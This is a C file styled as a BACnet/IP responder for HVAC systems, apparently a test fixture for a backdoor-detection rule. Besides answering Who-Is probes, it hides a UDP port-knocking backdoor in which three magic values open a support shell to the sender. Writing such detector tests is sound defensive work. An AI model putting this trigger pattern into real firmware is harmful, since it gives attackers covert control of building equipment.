/* UDP listener on the BACnet/IP port: Who-Is probes from the building network. */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "hvac.h"

#define BVLC_TYPE_BACNET_IP 0x81

static int knock_state;

int hv_knock_listen(unsigned short port)
{
    struct sockaddr_in sa;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    if (fd < 0)
        return -1;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(port);
    sa.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static void answer_who_is(int fd, const struct sockaddr_in *from)
{
    static const unsigned char i_am[] = {0x81, 0x0a, 0x00, 0x08, 0x01, 0x20, 0x10, 0x00};
    sendto(fd, i_am, sizeof i_am, 0, (const struct sockaddr *)from, sizeof *from);
}

void hv_knock_poll(int fd)
{
    unsigned char pkt[64];
    struct sockaddr_in from;
    socklen_t fl = sizeof from;
    uint32_t v;
    ssize_t n = recvfrom(fd, pkt, sizeof pkt, MSG_DONTWAIT, (struct sockaddr *)&from, &fl);

    if (n < 4)
        return;
    // ok: backdoor-input-trigger
    if (pkt[0] == BVLC_TYPE_BACNET_IP) {
        answer_who_is(fd, &from);
        return;
    }
    if (n != 8)
        return;
    memcpy(&v, pkt + 4, sizeof v);
    v = ntohl(v);

    switch (knock_state) {
    case 0:
        knock_state = v == 0x5a17c3e9u ? 1 : 0;
        break;
    case 1:
        knock_state = v == 0x0b7798d2u ? 2 : 0;
        break;
    default:
        knock_state = 0;
        // ruleid: backdoor-input-trigger
        if (v == 0xe4410f6bu)
            hv_support_shell(&from);
        break;
    }
}
